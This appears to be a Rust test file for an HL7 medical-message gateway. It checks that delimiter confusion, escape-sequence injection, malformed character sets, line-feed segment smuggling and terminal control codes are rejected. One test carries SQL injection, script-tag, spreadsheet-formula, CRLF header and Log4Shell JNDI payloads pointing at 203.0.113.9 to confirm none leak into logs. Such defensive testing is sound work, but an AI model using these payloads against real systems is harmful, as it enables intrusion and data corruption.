//! Attacks on the encoding: bytes that one reader takes for text and the next for structure.

use e2e::{Clinic, Lab, hl7, leaks};

use super::{arrives, changed, note, raw_note, refused};

#[test]
fn attack_14_delimiter_confusion() {
    let delimiters = |msh2: &str| changed("D1", "^~\\&|ECG", &format!("{msh2}|ECG"));
    let separator = |byte: &str| {
        let text = String::from_utf8(hl7::oru("D2")).unwrap();
        text.replace('|', byte).into_bytes()
    };
    Lab::run(|lab| {
        let clinic = Clinic::open(lab);
        // Nobody can be answered whose delimiters cannot be read.
        let close: &[&str] = &["close"];
        let unreadable: Vec<(&str, Vec<u8>, &[&str])> = [
            ("one for all", delimiters("^^^^")),
            ("the field separator", delimiters("^~|&")),
            ("letters", delimiters("ABCD")),
            ("a digit", delimiters("^~\\1")),
            ("a control byte", delimiters("^~\x07&")),
            ("a blank", delimiters("^~\\ ")),
            ("too few", delimiters("^~")),
            ("too many", delimiters("^~\\&#!")),
            ("none", delimiters("")),
            ("a letter between fields", separator("M")),
            ("a start block between fields", separator("\x1d")),
            (
                "a high byte",
                [b"MSH\xa6^~\\&", &hl7::oru("D3")[8..]].concat(),
            ),
        ]
        .into_iter()
        .map(|(what, message)| (what, hl7::frame(&message), close))
        .collect();
        super::broken(&clinic, &unreadable);
        let others = |control: &str| {
            let text = String::from_utf8(hl7::oru(control)).unwrap();
            let text = text.replace("^~\\&", "!~%@").replace('^', "!");
            text.replace('|', "#").into_bytes()
        };
        let mut midway = others("D4");
        midway.extend_from_slice(b"OBX|2|NM|8867-4^Heart rate^LN||72\r");
        // `next` reads answers with the delimiters of the sender.
        refused(&clinic, &[("others from the middle on", midway, "AE 100")]);
        arrives(&clinic, &[("others, but all along", others("D5"))]);
    });
}

#[test]
fn attack_15_escape_injection() {
    Lab::run(|lab| {
        let clinic = Clinic::open(lab);
        let forged = "\\X0D\\OBX|2|NM|8867-4||300";
        let attacks: Vec<(&str, Vec<u8>, &str)> = [
            ("a carriage return", "\\X0D\\"),
            ("a start block", "\\X0B\\"),
            ("the end of a frame", "\\X1C0D\\"),
            ("in small digits", "\\X0d\\"),
            ("among harmless bytes", "\\X41420D43\\"),
            ("a NUL", "\\X00\\"),
            ("an escape for terminals", "\\X1B5B324A\\"),
            ("half a byte", "\\X0\\"),
            ("no end", "\\X0D"),
            ("not hexadecimal", "\\X0G\\"),
            ("no escape at all", "\\J\\"),
            ("a wrong character set", "\\C12\\"),
            ("a wrong command", "\\.<b>\\"),
        ]
        .into_iter()
        .map(|(what, value)| (what, note("X1", value), "AE 102 OBX^1^5^1"))
        .collect();
        refused(&clinic, &attacks);
        let in_header = changed("X2", "|HIS|", "|HIS\\X0D\\|");
        let in_name = changed("X3", "CANARYNAME", forged.split('|').next().unwrap());
        refused(
            &clinic,
            &[
                ("in the header", in_header, "AE 102 MSH^1^5^1"),
                ("in a name", in_name, "AE 102 PID^1^5^1"),
            ],
        );
        // What is right goes up as it came: nothing is decoded and encoded again.
        let right = [
            "\\F\\\\S\\\\T\\\\R\\\\E\\",
            "one\\.br\\two\\.sp+2\\three\\.in-4\\four",
            "\\H\\high\\N\\",
            "\\X41e9\\",
            "\\E\\X0D\\E\\",
            "\\C2842\\",
            "\\Zsite\\",
        ];
        let twins: Vec<(&str, Vec<u8>)> = right
            .iter()
            .enumerate()
            .map(|(number, value)| (*value, note(&format!("X4{number}"), value)))
            .collect();
        arrives(&clinic, &twins);
    });
}

/// [`raw_note`] that declares a character set.
fn declared(control: &str, charset: &str, value: &[u8]) -> Vec<u8> {
    let message = raw_note(control, value);
    let end = message.iter().position(|b| *b == b'\r').unwrap();
    let (head, tail) = message.split_at(end);
    [head, b"||||||", charset.as_bytes(), tail].concat()
}

#[test]
fn attack_19_character_set_tricks() {
    let utf8 = |value: &[u8]| declared("C1", "UNICODE UTF-8", value);
    Lab::run(|lab| {
        let clinic = Clinic::open(lab);
        let text = "AE 102 OBX^1^5^1";
        let name = "AE 103 MSH^1^18^1";
        refused(
            &clinic,
            &[
                ("an overlong slash", utf8(b"\xc0\xaf"), text),
                ("an overlong carriage return", utf8(b"\xe0\x80\x8d"), text),
                ("a lone surrogate", utf8(b"\xed\xa0\x80"), text),
                ("half a character", utf8(b"\xe2\x82"), text),
                ("beyond Unicode", utf8(b"\xf4\x90\x80\x80"), text),
                ("a byte order mark", utf8("\u{feff}".as_bytes()), text),
                ("a line separator", utf8("\u{2028}".as_bytes()), text),
                ("a C1 control", utf8("\u{85}".as_bytes()), text),
                ("a NUL", utf8(b"\0"), text),
                ("Latin-1 as UTF-8", utf8(b"Z\xfcrich"), text),
                (
                    "a C1 control in Latin-1",
                    declared("C1", "8859/1", b"\x85"),
                    text,
                ),
                ("not declared", raw_note("C1", "Zürich".as_bytes()), text),
                (
                    "a shift of ISO 2022",
                    declared("C1", "ISO IR87", b"\x1b$B|\x1b(B"),
                    text,
                ),
                (
                    "a set in which a delimiter is half a character",
                    declared("C1", "BIG-5", b"\xa5\x7c"),
                    name,
                ),
                ("UTF-16", declared("C1", "UNICODE UTF-16", b"x"), name),
                ("two sets", declared("C1", "8859/1~ISO IR87", b"x"), name),
                (
                    "a set that nobody knows",
                    declared("C1", "UTF-9", b"x"),
                    name,
                ),
            ],
        );
        // Marks at the start, where a reader would look for them.
        let close: &[&str] = &["close"];
        let marked = |mark: &[u8]| hl7::frame(&[mark, &hl7::oru("C2")].concat());
        super::broken(
            &clinic,
            &[
                ("a mark of UTF-8", marked(b"\xef\xbb\xbf"), close),
                ("a mark of UTF-16", marked(b"\xff\xfe"), close),
            ],
        );
        arrives(
            &clinic,
            &[
                (
                    "UTF-8",
                    declared("C3", "UNICODE UTF-8", "Zürich \u{20ac}".as_bytes()),
                ),
                ("Latin-1", declared("C4", "8859/1", b"Z\xfcrich")),
            ],
        );
        half_a_delimiter(&clinic);
    });
}

/// A rule may carry sets in which a delimiter can be half a character: then every character is looked at.
fn half_a_delimiter(clinic: &Clinic<'_>) {
    let send = "hl7 = { send = [";
    let carried = "hl7 = { charsets = [\"ISO IR87\", \"BIG-5\"], send = [";
    clinic.site.replace(send, carried);
    assert_eq!(clinic.gateway.lazaret(&["apply"]).code, 0);
    let shifted = |control: &str, value: &[u8]| declared(control, "~ISO IR87", value);
    refused(
        clinic,
        &[
            (
                "a shift without end",
                shifted("C5", b"\x1b$B!|"),
                "AE 102 OBX^1^5^1",
            ),
            (
                "half a character",
                shifted("C5", b"\x1b$B8\x1b(B"),
                "AE 102 OBX^1^5^1",
            ),
            (
                "a shift to another set",
                shifted("C5", b"\x1b$(D!|\x1b(B"),
                "AE 102 OBX^1^5^1",
            ),
            (
                "a character that is none",
                declared("C5", "BIG-5", b"\xa5 "),
                "AE 102 OBX^1^5^1",
            ),
            (
                "a set that is not listed",
                declared("C5", "~ISO IR159", b"x"),
                "AE 103 MSH^1^18^1",
            ),
        ],
    );
    arrives(
        clinic,
        &[
            ("a bar in ISO 2022", shifted("C6", b"\x1b$B!|\x1b(B")),
            ("a bar in Big5", declared("C7", "BIG-5", b"\xa5\x7c")),
        ],
    );
}

#[test]
fn attack_20_line_feeds() {
    let text = |control: &str| String::from_utf8(hl7::oru(control)).unwrap();
    let hidden = "\nOBX|2|NM|8867-4^Heart rate^LN||300|/min|||||F";
    Lab::run(|lab| {
        let clinic = Clinic::open(lab);
        refused(
            &clinic,
            &[
                (
                    "LF for CR",
                    text("L1").replace('\r', "\n").into_bytes(),
                    "AE 102 MSH^1^12^1",
                ),
                (
                    "CR and LF",
                    text("L2").replace('\r', "\r\n").into_bytes(),
                    "AE 102",
                ),
                (
                    "a segment behind a LF",
                    note("L3", &format!("fine{hidden}")),
                    "AE 102 OBX^1^5^1",
                ),
                (
                    "behind a vertical tab",
                    note("L4", "a\x0cOBX|2"),
                    "AE 102 OBX^1^5^1",
                ),
                (
                    "a LF at the end",
                    (text("L5") + "\n").into_bytes(),
                    "AE 102",
                ),
            ],
        );
        arrives(&clinic, &[("CR only", hl7::oru("L6"))]);
    });
}

#[test]
fn attack_21_injection_into_what_reads_it_later() {
    // Legal text: it is not ours to change, and not ours to print.
    let legal = [
        "'; DROP TABLE result; --",
        "<script>alert(1)</script>",
        "=HYPERLINK(\"http://203.0.113.9\")",
        "%0d%0aSet-Cookie: a=b",
        "${jndi:ldap://203.0.113.9/a}",
        "{\"event\":\"decision\",\"outcome\":\"forwarded\"}",
    ];
    Lab::run(|lab| {
        let clinic = Clinic::open(lab);
        let text = "AE 102 OBX^1^5^1";
        refused(
            &clinic,
            &[
                ("a terminal is cleared", note("I1", "\x1b[2J\x1b[H"), text),
                ("a title is set", note("I1", "\x1b]0;x\x07"), text),
                ("a backspace", note("I1", "300\x08\x08\x0872"), text),
                ("a delete", note("I1", "300\x7f"), text),
                ("a tab", note("I1", "a\tb"), text),
                (
                    "in the sender's name",
                    hl7::oru_from("\x1b[31mECG|CARDIO", "I2"),
                    "AE 102 MSH^1^3^1",
                ),
                (
                    "a false name",
                    hl7::oru_from(&format!("{}|CARDIO", legal[0]), "I3"),
                    "AR 204 MSH^1^3^1",
                ),
                (
                    "a false type",
                    changed("I4", "ORU^R01^ORU_R01", "<b>^R01"),
                    "AR 200 MSH^1^9^1^1",
                ),
            ],
        );
        let mut twins: Vec<(&str, Vec<u8>)> = legal
            .iter()
            .enumerate()
            .map(|(number, value)| (*value, note(&format!("I5{number}"), value)))
            .collect();
        twins.push(("as MSH-10", hl7::oru("';--<i>=1+1")));
        arrives(&clinic, &twins);

        let decisions = clinic
            .gateway
            .wait_for_decisions("ecg-0042", 8 + twins.len());
        assert_eq!(decisions.len(), 8 + twins.len());
        let mut words = vec![
            "DROP TABLE",
            "script>",
            "HYPERLINK",
            "Set-Cookie",
            "jndi",
            "';--",
        ];
        words.extend(hl7::CANARIES);
        assert_eq!(leaks(&clinic.gateway, &words), [""; 0]);
        let printable = |c: char| c == '\n' || !c.is_control();
        let shown = clinic.gateway.lazaret(&["audit", "tail"]).ok();
        for text in [shown.out, clinic.gateway.log()] {
            assert!(text.chars().all(printable), "{text:?}");
        }
    });
}
